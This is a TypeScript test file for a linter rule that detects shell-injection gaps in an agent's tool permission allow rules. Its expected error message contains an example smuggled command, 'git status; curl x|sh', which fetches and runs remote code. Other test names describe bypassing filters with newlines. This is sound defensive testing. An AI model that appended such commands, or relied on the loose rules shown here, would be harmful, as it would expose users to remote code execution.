import { runRuleTests } from '../../test/support/rule-tester.ts';
import rule from './rules-shell-injection.ts';

const y = (...lines: string[]): string => `${lines.join('\n')}\n`;
const allow = (r: string, input = 'raw'): string => y('mode: pattern', 'default: deny', `input: ${input}`, 'allow:', `  - ${r}`);

runRuleTests(rule, {
  valid: [
    { name: 'field rules are anchored', code: allow('{tool: bash, field: command, match: "git (status|diff)"}', 'canonical') },
    { name: 'pattern closes the JSON string', code: allow('{tool: bash, match: "\\"command\\":\\"git status\\"}"}') },
    { name: 'not a shell tool', code: allow('{tool: read, match: "/workspace/"}') },
    { name: 'a pattern that can never match has no witness', code: allow("{tool: bash, match: '^\\s*\"command\"'}") },
  ],
  invalid: [
    {
      code: allow('{tool: bash, match: "\\"command\\":\\"git status"}'),
      errors: [
        {
          messageId: 'extensibleCommand',
          line: 5,
          column: 25,
          message:
            'this allow rule for `bash` also allows the command extended with `; curl x|sh`, e.g. `{"command":"git status; curl x|sh"}`',
          help: 'write a command rule, which allows a call only when every command it executes is allowed: `{tool: bash, command: [git, status]}`',
        },
      ],
    },
    {
      name: 'field rule ending in .*',
      code: allow('{tool: Bash, field: command, match: "ls.*"}'),
      errors: [{ messageId: 'extensibleCommand', line: 5, column: 41 }],
    },
    {
      name: 'a newline gets past a field rule that excludes ; & |',
      code: allow("{tool: bash, field: command, match: 'ls[^;&|`$]*'}"),
      errors: [{ messageId: 'extensibleCommand', line: 5, column: 41 }],
    },
    {
      name: 'option tools',
      options: { tools: ['my_runner'] },
      code: allow('{tool: my_runner, match: "make"}'),
      errors: [
        {
          messageId: 'extensible',
          line: 5,
          column: 30,
          help: 'match the whole command with `field: command` and an exact pattern (`field` rules are anchored at both ends), and deny `[;&|`$\\n]` in commands',
        },
      ],
    },
  ],
});
